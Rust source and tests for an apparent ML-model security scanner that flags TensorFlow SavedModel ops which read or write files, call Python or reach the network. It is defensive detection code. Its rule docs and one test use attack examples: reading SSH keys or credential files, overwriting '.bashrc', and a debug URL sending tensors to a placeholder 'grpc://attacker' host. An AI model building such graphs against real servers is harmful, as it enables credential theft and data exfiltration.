//! Rules for TensorFlow graphs: `saved_model.pb`, a bare frozen GraphDef, and
//! the Keras architecture in a SavedModel's `keras_metadata.pb`.
//!
//! A SavedModel runs its graph functions when it is loaded and served, so
//! operations that read or write files, call back into Python or reach the
//! network are what matters. Checkpoint ops (SaveV2, RestoreV2, ...) appear in
//! every SavedModel, inside the saver that `MetaGraphDef.saver_def` names:
//! there they read and write the model's own `variables/` and are not
//! reported. The saver is the set of functions reachable from the nodes
//! `saver_def` names (TF2) and the name scope of its restore op, `save/` or
//! `save_N/` (TF1). The same ops anywhere else (a serving signature, the main
//! graph) are reported. This is a heuristic for the common shapes, not a
//! boundary: file-access, Python and network ops are reported wherever they
//! are, saver included.

use crate::rules::general::LIMIT_EXCEEDED;
use crate::rules::keras;
use crate::{Ctx, Report};
use mlsec_core::{declare_rule, Finding, Rule, Severity};
use mlsec_formats::protobuf::wire::WireError;
use mlsec_formats::savedmodel::{self, GraphDef, Kind, NodeDef, SaverDef, Sniff};
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet, HashMap};

declare_rule! {
    /// ## What it does
    /// Flags `PyFunc`, `PyFuncStateless` and `EagerPyFunc` operations
    /// (`tf.py_function`, `tf.numpy_function`) in a TensorFlow graph.
    ///
    /// ## Why is this bad?
    /// These ops call a Python function of the loading process by token. The
    /// file cannot carry that function, but a graph that calls into Python is
    /// built to run code outside the graph, and in a process that registered
    /// matching tokens it does.
    ///
    /// ## Example
    /// A serving signature containing `op: "EagerPyFunc" attr { key: "token" ... }`.
    ///
    /// ## How to fix
    /// Re-export the model without `tf.py_function` / `tf.numpy_function`.
    pub const PYTHON_OP = Rule {
        id: "TFS001", name: "tf-python-op", severity: High, category: Malicious,
        summary: "TensorFlow graph calls back into Python",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags operations that read, write or list files: `ReadFile`,
    /// `WriteFile`, `MatchingFiles`, `ImmutableConst` (memory-maps a path),
    /// file readers and file-backed datasets, summary writers, `PrintV2` to a
    /// file, `DebugIdentity` with `file://` URLs, proto ops reading descriptor
    /// files.
    ///
    /// ## Why is this bad?
    /// Serving the model runs them with the server's permissions: a signature
    /// can return `/etc/passwd` or `~/.aws/credentials` as its output, or
    /// write a file anywhere the server can.
    ///
    /// ## Example
    /// `serving_default` computing `ReadFile("/home/app/.ssh/id_rsa")`.
    ///
    /// ## How to fix
    /// Do not serve the model. Legitimate inference graphs take their data as
    /// input tensors, not from paths.
    pub const FILE_OP = Rule {
        id: "TFS002", name: "tf-file-access-op", severity: High, category: Malicious,
        summary: "TensorFlow graph reads or writes files",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags operations that reach the network: RPC ops (`RpcClient`,
    /// `RpcCall`, ...), tf.data service datasets, and debug ops with `grpc://`
    /// URLs.
    ///
    /// ## Why is this bad?
    /// A model that talks to the network while it runs can send its inputs
    /// (your data) or anything it read to someone else, or fetch what it
    /// computes.
    ///
    /// ## Example
    /// `op: "DebugIdentity" attr { key: "debug_urls" value { list { s: "grpc://attacker:6064" } } }`.
    ///
    /// ## How to fix
    /// Do not serve the model.
    pub const NETWORK_OP = Rule {
        id: "TFS003", name: "tf-network-op", severity: High, category: Malicious,
        summary: "TensorFlow graph reaches the network",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags checkpoint operations (`SaveV2`, `RestoreV2`, `MergeV2Checkpoints`,
    /// `Save`, `SaveSlices`, `Restore`, `RestoreSlice`) outside the model's own
    /// saver, as named by `MetaGraphDef.saver_def`.
    ///
    /// ## Why is this bad?
    /// Inside the saver they read and write the model's `variables/`. Outside
    /// it they write checkpoint files to any path (`SaveV2`), or delete
    /// folders (`MergeV2Checkpoints` with `delete_old_dirs`), whenever the
    /// signature holding them runs.
    ///
    /// ## Example
    /// A `serving_default` function that calls `SaveV2` with the prefix
    /// `/home/app/.bashrc`.
    ///
    /// ## How to fix
    /// Re-export the model with `tf.saved_model.save`, which puts checkpoint
    /// ops only in the saver.
    pub const CHECKPOINT_OP = Rule {
        id: "TFS004", name: "tf-checkpoint-op-outside-saver", severity: Medium, category: Suspicious,
        summary: "TensorFlow checkpoint op outside the model's saver",
    };
}

declare_rule! {
    /// ## What it does
    /// Reports lookup tables initialised from a text file
    /// (`InitializeTableFromTextFile`, `...V2`).
    ///
    /// ## Why is this bad?
    /// Usually it is not: vocabularies ship as assets (`assets/vocab.txt`) and
    /// are read when the model loads. The report lists them because a table
    /// can also be pointed at any readable file.
    ///
    /// ## Example
    /// A BERT preprocessing SavedModel reading `assets/vocab.txt`.
    ///
    /// ## How to fix
    /// Nothing to fix when the vocabulary is an asset of the model.
    pub const TABLE_FROM_FILE = Rule {
        id: "TFS005", name: "tf-table-from-file", severity: Info, category: Info,
        summary: "TensorFlow lookup table initialised from a file",
    };
}

declare_rule! {
    /// ## What it does
    /// Reports a SavedModel, GraphDef or keras_metadata file that cannot be
    /// fully parsed: truncated, wrong wire types, invalid UTF-8 in names.
    ///
    /// ## Why is this bad?
    /// What was not parsed was not judged. mlsec fails closed.
    ///
    /// ## Example
    /// A `saved_model.pb` cut short by an interrupted copy.
    ///
    /// ## How to fix
    /// Export or download the model again.
    pub const MALFORMED = Rule {
        id: "TFS006", name: "tf-protobuf-malformed", severity: High, category: Error,
        summary: "TensorFlow protobuf could not be fully parsed",
    };
}

pub const RULES: &[Rule] = &[
    PYTHON_OP,
    FILE_OP,
    NETWORK_OP,
    CHECKPOINT_OP,
    TABLE_FROM_FILE,
    MALFORMED,
];

/// What an op does that matters.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Effect {
    Python,
    ReadsFiles,
    WritesFiles,
    Network,
    Checkpoint,
    TableFromFile,
}

impl Effect {
    fn rule(self) -> &'static Rule {
        match self {
            Effect::Python => &PYTHON_OP,
            Effect::ReadsFiles | Effect::WritesFiles => &FILE_OP,
            Effect::Network => &NETWORK_OP,
            Effect::Checkpoint => &CHECKPOINT_OP,
            Effect::TableFromFile => &TABLE_FROM_FILE,
        }
    }

    fn describe(self) -> &'static str {
        match self {
            Effect::Python => "calls a Python function",
            Effect::ReadsFiles => "reads files",
            Effect::WritesFiles => "writes files",
            Effect::Network => "reaches the network",
            Effect::Checkpoint => "reads or writes checkpoint files",
            Effect::TableFromFile => "fills a lookup table from a file",
        }
    }
}

/// The effect of op `node`, judged from its type and, for ops whose effect
/// depends on them, its attributes.
fn effect(node: &NodeDef) -> Option<Effect> {
    let op = node.op.as_str();
    let effect = match op {
        "PyFunc" | "PyFuncStateless" | "EagerPyFunc" => Effect::Python,
        "ReadFile"
        | "MatchingFiles"
        | "MatchingFilesDataset"
        | "ExperimentalMatchingFilesDataset"
        | "ImmutableConst"
        | "FixedLengthRecordReader"
        | "FixedLengthRecordReaderV2"
        | "TextLineReader"
        | "TextLineReaderV2"
        | "TFRecordReader"
        | "TFRecordReaderV2"
        | "WholeFileReader"
        | "WholeFileReaderV2"
        | "LMDBReader"
        | "TFRecordDataset"
        | "TFRecordDatasetV2"
        | "TextLineDataset"
        | "FixedLengthRecordDataset"
        | "FixedLengthRecordDatasetV2"
        | "LMDBDataset"
        | "ExperimentalLMDBDataset"
        | "SqlDataset"
        | "ExperimentalSqlDataset"
        | "CSVDataset"
        | "CSVDatasetV2"
        | "ExperimentalCSVDataset"
        | "LoadDataset"
        | "LoadAndRemapMatrix"
        | "GenerateVocabRemapping" => Effect::ReadsFiles,
        "WriteFile"
        | "SaveDataset"
        | "SaveDatasetV2"
        | "DatasetToTFRecord"
        | "ExperimentalDatasetToTFRecord"
        | "SnapshotDataset"
        | "SnapshotDatasetV2"
        | "CacheDataset"
        | "CacheDatasetV2"
        | "CreateSummaryFileWriter"
        | "CreateSummaryDbWriter"
        | "DebugIdentityV2"
        | "DebugIdentityV3" => Effect::WritesFiles,
        "RpcClient"
        | "RpcServer"
        | "RpcServerStart"
        | "RpcServerRegister"
        | "RpcCall"
        | "RpcCheckStatus"
        | "RpcGetValue"
        | "DeleteRpcFutureResource"
        | "DataServiceDataset"
        | "DataServiceDatasetV2"
        | "DataServiceDatasetV3"
        | "DataServiceDatasetV4"
        | "RegisterDataset"
        | "RegisterDatasetV2"
        | "DistributedSave" => Effect::Network,
        "Save" | "SaveV2" | "SaveSlices" | "Restore" | "RestoreV2" | "RestoreSlice"
        | "MergeV2Checkpoints" => Effect::Checkpoint,
        "InitializeTableFromTextFile" | "InitializeTableFromTextFileV2" => Effect::TableFromFile,
        // Debug ops send tensors to their debug_urls: file:// or grpc://.
        "DebugIdentity" | "DebugNanCount" | "DebugNumericSummary" => {
            let urls = attr_strings(node, "debug_urls");
            if urls.iter().any(|u| u.starts_with("grpc://")) {
                Effect::Network
            } else if urls.is_empty() {
                return None;
            } else {
                Effect::WritesFiles
            }
        }
        "PrintV2"
            if attr_strings(node, "output_stream")
                .iter()
                .any(|s| s.starts_with("file://")) =>
        {
            Effect::WritesFiles
        }
        "DecodeProtoV2" | "EncodeProto"
            if attr_strings(node, "descriptor_source")
                .iter()
                .any(|s| !s.is_empty() && s != "local://") =>
        {
            Effect::ReadsFiles
        }
        _ => return None,
    };
    Some(effect)
}

fn attr_strings(node: &NodeDef, key: &str) -> Vec<String> {
    node.attr
        .get(key)
        .map(|a| {
            a.strings()
                .into_iter()
                .map(|s| String::from_utf8_lossy(s).into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Recognises a TensorFlow protobuf file (no magic number) and judges it.
pub fn probe(ctx: &Ctx, data: &[u8], report: &mut Report) -> bool {
    let kind = match savedmodel::sniff(data) {
        Sniff::NotTensorflow => return false,
        Sniff::Found(kind) => kind,
        Sniff::Broken(kind, e) => {
            report.recognise(kind.format_name());
            report.push(wire_finding(ctx, kind, &e));
            return true;
        }
    };
    report.recognise(kind.format_name());
    if let Err(e) = savedmodel::check(data, kind, ctx.tree_limits()) {
        report.push(wire_finding(ctx, kind, &e));
        return true;
    }
    let decoded = match kind {
        Kind::SavedModel => savedmodel::decode_saved_model(data).map(|m| {
            for (i, meta) in m.meta_graphs.iter().enumerate() {
                if let Some(graph) = &meta.graph_def {
                    let tags = meta
                        .meta_info_def
                        .as_ref()
                        .map(|m| m.tags.join(","))
                        .unwrap_or_default();
                    let label = format!("meta graph {i} [{tags}]");
                    judge_graph(ctx, graph, meta.saver_def.as_ref(), &label, report);
                }
            }
        }),
        Kind::GraphDef => {
            savedmodel::decode_graph_def(data).map(|g| judge_graph(ctx, &g, None, "graph", report))
        }
        Kind::KerasMetadata => savedmodel::decode_keras_metadata(data).map(|m| {
            judge_keras_metadata(ctx, &m, report);
        }),
    };
    if let Err(e) = decoded {
        report.push(ctx.finding(
            &MALFORMED,
            None,
            format!("{} could not be decoded: {e}", kind.format_name()),
        ));
    }
    true
}

fn wire_finding(ctx: &Ctx, kind: Kind, e: &WireError) -> Finding {
    let rule = if e.is_limit() {
        &LIMIT_EXCEEDED
    } else {
        &MALFORMED
    };
    ctx.finding(
        rule,
        e.offset(),
        format!("{} is malformed: {e}", kind.format_name()),
    )
}

/// Where ops with one effect were found.
#[derive(Default)]
struct Uses {
    count: u64,
    holders: BTreeSet<String>,
}

/// Judges the ops of a graph and its function library.
fn judge_graph(
    ctx: &Ctx,
    graph: &GraphDef,
    saver: Option<&SaverDef>,
    label: &str,
    report: &mut Report,
) {
    let functions: HashMap<&str, &[NodeDef]> = graph
        .library
        .iter()
        .flat_map(|l| &l.function)
        .map(|f| (f.name(), f.node_def.as_slice()))
        .collect();
    let saver_functions = saver
        .map(|s| saver_closure(graph, &functions, s))
        .unwrap_or_default();
    let saver_scope = saver
        .and_then(|s| s.restore_op_name.rsplit_once('/'))
        .map(|(scope, _)| format!("{scope}/"));
    let mut uses: BTreeMap<(Effect, String), Uses> = BTreeMap::new();
    let mut record = |node: &NodeDef, holder: String, in_saver: bool| {
        let Some(effect) = effect(node) else { return };
        if effect == Effect::Checkpoint && in_saver {
            return;
        }
        let u = uses.entry((effect, node.op.clone())).or_default();
        u.count += 1;
        if u.holders.len() < 10 {
            u.holders.insert(holder);
        }
    };
    for node in &graph.node {
        let in_saver = saver_scope
            .as_deref()
            .is_some_and(|s| node.name.starts_with(s))
            || is_saver_scope(&node.name);
        record(node, format!("node `{}`", node.name), in_saver);
    }
    let mut names: Vec<_> = functions.keys().copied().collect();
    names.sort_unstable();
    for name in names {
        let in_saver = saver_functions.contains(name);
        for node in functions.get(name).copied().unwrap_or_default() {
            record(
                node,
                format!("function `{name}` node `{}`", node.name),
                in_saver,
            );
        }
    }
    for ((effect, op), u) in uses {
        let holders: Vec<_> = u.holders.into_iter().collect();
        let msg = format!(
            "{label}: op `{op}` {} ({} use(s), in {}{})",
            effect.describe(),
            u.count,
            holders.join(", "),
            if u.count as usize > holders.len() {
                ", ..."
            } else {
                ""
            }
        );
        let mut finding = ctx.finding(effect.rule(), None, msg).with_evidence(
            json!({ "op": op, "count": u.count, "holders": holders, "graph": label }),
        );
        if effect == Effect::WritesFiles {
            finding = finding.with_severity(Severity::Critical);
        }
        report.push(finding);
    }
}

/// TF1 savers live in the `save/` (or `save_1/`, ...) name scope.
fn is_saver_scope(name: &str) -> bool {
    let Some((scope, _)) = name.split_once('/') else {
        return false;
    };
    scope == "save"
        || scope
            .strip_prefix("save_")
            .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
}

/// Functions reachable from the nodes `saver_def` names (TF2 saves through
/// `StatefulPartitionedCall` nodes calling `__inference__traced_save_N` and
/// `__inference__traced_restore_N`).
fn saver_closure<'g>(
    graph: &'g GraphDef,
    functions: &HashMap<&'g str, &'g [NodeDef]>,
    saver: &SaverDef,
) -> BTreeSet<&'g str> {
    let entry_names: Vec<&str> = [&saver.save_tensor_name, &saver.restore_op_name]
        .iter()
        .map(|n| n.trim_start_matches('^'))
        .map(|n| n.split(':').next().unwrap_or(n))
        .filter(|n| !n.is_empty())
        .collect();
    let mut queue: Vec<&str> = graph
        .node
        .iter()
        .filter(|n| entry_names.contains(&n.name.as_str()))
        .flat_map(callees)
        .collect();
    let mut reached = BTreeSet::new();
    while let Some(name) = queue.pop() {
        let Some((&key, nodes)) = functions.get_key_value(name) else {
            continue;
        };
        if reached.insert(key) {
            queue.extend(nodes.iter().flat_map(callees));
        }
    }
    reached
}

/// Functions a node calls: through function-valued attributes, or by having
/// a function's name as its op.
fn callees(node: &NodeDef) -> Vec<&str> {
    let mut out: Vec<&str> = node.attr.values().flat_map(|a| a.functions()).collect();
    out.push(node.op.as_str());
    out
}

/// keras_metadata.pb holds one JSON document per Keras object; the model's
/// document repeats its layers', so findings are reported once.
fn judge_keras_metadata(ctx: &Ctx, metadata: &savedmodel::SavedMetadata, report: &mut Report) {
    let mut seen = BTreeSet::new();
    for node in &metadata.nodes {
        let mut scratch = Report::default();
        let source = format!("metadata of `{}`", node.node_path);
        keras::scan_json(ctx, node.metadata.as_bytes(), &source, &mut scratch);
        for f in scratch.findings {
            let key = (f.rule.clone(), f.message.replace(&source, ""));
            if seen.insert(key) {
                report.push(f);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ScanConfig;
    use mlsec_core::Verdict;
    use mlsec_formats::protobuf::Message;
    use mlsec_formats::savedmodel::{
        attr_value, AttrValue, FunctionDef, FunctionDefLibrary, ListValue, MetaGraphDef,
        MetaInfoDef, NameAttrList, OpDef, SavedMetadata, SavedModel, SavedObject,
    };

    fn run(data: &[u8]) -> (bool, Report) {
        let config = ScanConfig::default();
        let ctx = Ctx::new(&config, "saved_model.pb", None);
        let mut report = Report::default();
        let hit = probe(&ctx, data, &mut report);
        (hit, report)
    }

    fn rules(report: &Report) -> Vec<&str> {
        report.findings.iter().map(|f| f.rule.as_str()).collect()
    }

    fn node(name: &str, op: &str) -> NodeDef {
        NodeDef {
            name: name.into(),
            op: op.into(),
            ..Default::default()
        }
    }

    fn call(name: &str, function: &str) -> NodeDef {
        let mut n = node(name, "StatefulPartitionedCall");
        n.attr.insert(
            "f".into(),
            AttrValue {
                value: Some(attr_value::Value::Func(NameAttrList {
                    name: function.into(),
                })),
            },
        );
        n
    }

    fn function(name: &str, nodes: Vec<NodeDef>) -> FunctionDef {
        FunctionDef {
            signature: Some(OpDef { name: name.into() }),
            node_def: nodes,
        }
    }

    /// The shape `tf.saved_model.save` writes for a small Keras model (TF 2.x).
    fn tf2_model(serving_extra: Vec<NodeDef>) -> SavedModel {
        let mut serving = vec![
            node("dense/MatMul/ReadVariableOp", "ReadVariableOp"),
            node("dense/MatMul", "MatMul"),
            node("dense/BiasAdd", "BiasAdd"),
            node("dense/Relu", "Relu"),
            node("Identity", "Identity"),
        ];
        serving.extend(serving_extra);
        let graph = GraphDef {
            node: vec![
                node("serving_default_input_1", "Placeholder"),
                call(
                    "StatefulPartitionedCall",
                    "__inference_signature_wrapper_230",
                ),
                node("saver_filename", "Placeholder"),
                call("StatefulPartitionedCall_1", "__inference__traced_save_292"),
                call(
                    "StatefulPartitionedCall_2",
                    "__inference__traced_restore_314",
                ),
            ],
            library: Some(FunctionDefLibrary {
                function: vec![
                    function(
                        "__inference_signature_wrapper_230",
                        vec![call("PartitionedCall", "__inference_serving_default_200")],
                    ),
                    function("__inference_serving_default_200", serving),
                    function(
                        "__inference__traced_save_292",
                        vec![
                            node("StaticRegexFullMatch", "StaticRegexFullMatch"),
                            node("Const", "Const"),
                            node("Select", "Select"),
                            node("StringJoin", "StringJoin"),
                            node("ShardedFilename", "ShardedFilename"),
                            node("SaveV2", "SaveV2"),
                            call("inner", "__inference__traced_save_helper_1"),
                        ],
                    ),
                    function(
                        "__inference__traced_save_helper_1",
                        vec![node("MergeV2Checkpoints", "MergeV2Checkpoints")],
                    ),
                    function(
                        "__inference__traced_restore_314",
                        vec![
                            node("RestoreV2", "RestoreV2"),
                            node("AssignVariableOp", "AssignVariableOp"),
                            node("NoOp", "NoOp"),
                        ],
                    ),
                ],
            }),
        };
        SavedModel {
            saved_model_schema_version: 1,
            meta_graphs: vec![MetaGraphDef {
                meta_info_def: Some(MetaInfoDef {
                    tags: vec!["serve".into()],
                    tensorflow_version: "2.15.0".into(),
                }),
                graph_def: Some(graph),
                saver_def: Some(SaverDef {
                    filename_tensor_name: "saver_filename:0".into(),
                    save_tensor_name: "StatefulPartitionedCall_1:0".into(),
                    restore_op_name: "StatefulPartitionedCall_2".into(),
                }),
            }],
        }
    }

    #[test]
    fn tf2_saved_model_with_its_saver_is_clean() {
        let (hit, report) = run(&tf2_model(vec![]).encode_to_vec());
        assert!(hit);
        assert_eq!(report.format.as_deref(), Some("tf-savedmodel"));
        assert!(report.findings.is_empty(), "{:?}", report.findings);
        assert_eq!(report.verdict(), Verdict::Clean);
    }

    #[test]
    fn tf1_saver_scope_is_clean() {
        let graph = GraphDef {
            node: vec![
                node("x", "Placeholder"),
                node("save/Const", "Const"),
                node("save/SaveV2", "SaveV2"),
                node("save/RestoreV2", "RestoreV2"),
                node("save/restore_all", "NoOp"),
                node("save_1/SaveV2", "SaveV2"),
            ],
            library: None,
        };
        let m = SavedModel {
            saved_model_schema_version: 1,
            meta_graphs: vec![MetaGraphDef {
                meta_info_def: None,
                graph_def: Some(graph),
                saver_def: Some(SaverDef {
                    filename_tensor_name: "save/Const:0".into(),
                    save_tensor_name: "save/control_dependency:0".into(),
                    restore_op_name: "save/restore_all".into(),
                }),
            }],
        };
        let (_, report) = run(&m.encode_to_vec());
        assert!(report.findings.is_empty(), "{:?}", report.findings);
    }

    #[test]
    fn file_python_and_network_ops_are_flagged_where_they_are() {
        let cases = [
            (node("r", "ReadFile"), "TFS002", Severity::High),
            (node("w", "WriteFile"), "TFS002", Severity::Critical),
            (node("p", "EagerPyFunc"), "TFS001", Severity::High),
            (node("m", "ImmutableConst"), "TFS002", Severity::High),
            (node("rpc", "RpcClient"), "TFS003", Severity::High),
            (node("s", "SaveV2"), "TFS004", Severity::Medium),
        ];
        for (n, rule, severity) in cases {
            let op = n.op.clone();
            let (_, report) = run(&tf2_model(vec![n]).encode_to_vec());
            assert_eq!(rules(&report), [rule], "{op}");
            assert_eq!(report.findings[0].severity, severity, "{op}");
            assert!(report.findings[0]
                .message
                .contains("__inference_serving_default_200"));
        }
    }

    #[test]
    fn debug_ops_are_judged_by_their_urls() {
        let with_urls = |urls: &[&str]| {
            let mut n = node("dbg", "DebugIdentity");
            let list = ListValue {
                s: urls.iter().map(|u| u.as_bytes().to_vec()).collect(),
                func: vec![],
            };
            n.attr.insert(
                "debug_urls".into(),
                AttrValue {
                    value: Some(attr_value::Value::List(list)),
                },
            );
            n
        };
        let (_, report) =
            run(&tf2_model(vec![with_urls(&["grpc://attacker:6064"])]).encode_to_vec());
        assert_eq!(rules(&report), ["TFS003"]);
        let (_, report) = run(&tf2_model(vec![with_urls(&["file:///tmp/dump"])]).encode_to_vec());
        assert_eq!(rules(&report), ["TFS002"]);
        let (_, report) = run(&tf2_model(vec![with_urls(&[])]).encode_to_vec());
        assert!(report.findings.is_empty());
    }

    #[test]
    fn vocabulary_tables_are_informational() {
        let (_, report) =
            run(&tf2_model(vec![node("init", "InitializeTableFromTextFileV2")]).encode_to_vec());
        assert_eq!(rules(&report), ["TFS005"]);
        assert_eq!(report.verdict(), Verdict::Clean);
    }

    #[test]
    fn frozen_graph_def_is_judged() {
        let g = GraphDef {
            node: vec![node("path", "Const"), node("read", "ReadFile")],
            library: None,
        };
        let (hit, report) = run(&g.encode_to_vec());
        assert!(hit);
        assert_eq!(report.format.as_deref(), Some("tf-graphdef"));
        assert_eq!(rules(&report), ["TFS002"]);
        let g = GraphDef {
            node: vec![node("x", "Placeholder"), node("y", "Relu")],
            library: None,
        };
        let (_, report) = run(&g.encode_to_vec());
        assert!(report.findings.is_empty());
    }

    /// keras_metadata as TF-Keras 2 writes it: the model document repeats
    /// each layer's config.
    fn keras_metadata(layer: serde_json::Value) -> Vec<u8> {
        let model = json!({"name": "model", "class_name": "Sequential", "config": {"name": "sequential", "layers": [layer]}});
        SavedMetadata {
            nodes: vec![
                SavedObject {
                    node_id: 0,
                    node_path: "root".into(),
                    identifier: "_tf_keras_sequential".into(),
                    metadata: model.to_string(),
                },
                SavedObject {
                    node_id: 1,
                    node_path: "root.layer-0".into(),
                    identifier: "_tf_keras_layer".into(),
                    metadata: layer.to_string(),
                },
            ],
        }
        .encode_to_vec()
    }

    #[test]
    fn keras_metadata_is_judged_once_per_finding() {
        let lambda = json!({"name": "lambda", "class_name": "Lambda", "config": {"name": "lambda",
            "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAA", null, null], "function_type": "lambda"}});
        let (hit, report) = run(&keras_metadata(lambda));
        assert!(hit);
        assert_eq!(report.format.as_deref(), Some("keras-metadata"));
        assert_eq!(rules(&report), ["KER001"]);
        let dense = json!({"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}});
        let (_, report) = run(&keras_metadata(dense));
        assert!(report.findings.is_empty(), "{:?}", report.findings);
    }

    #[test]
    fn truncated_files_are_never_clean() {
        let data = tf2_model(vec![]).encode_to_vec();
        for cut in 0..data.len() {
            let (hit, report) = run(&data[..cut]);
            if hit {
                assert_ne!(
                    report.verdict(),
                    Verdict::Clean,
                    "prefix of {cut} bytes judged clean"
                );
            } else {
                // Recognised once the first byte of the meta graph is there.
                assert!(cut < 7, "prefix of {cut} bytes not recognised");
            }
        }
    }

    #[test]
    fn text_and_foreign_protobufs_are_not_tensorflow() {
        for data in [
            &b"\nplain text\n"[..],
            b"{\"class_name\": \"Dense\"}",
            b"",
            b"\x08\x07\x12\x07pytorch",
        ] {
            let (hit, report) = run(data);
            assert!(!hit && !report.recognised);
        }
    }

    #[test]
    fn huge_lengths_and_field_bombs_fail_closed() {
        let (hit, report) = run(b"\x08\x01\x12\xff\xff\xff\xff\x0f\x0a");
        assert!(hit);
        assert_eq!(rules(&report), ["TFS006"]);
        // One real node, then five million empty ones.
        let mut data = GraphDef {
            node: vec![node("x", "Placeholder")],
            library: None,
        }
        .encode_to_vec();
        data.extend(b"\x0a\x00".repeat(5 << 20));
        let (_, report) = run(&data);
        assert_eq!(rules(&report), ["SCN003"]);
    }
}
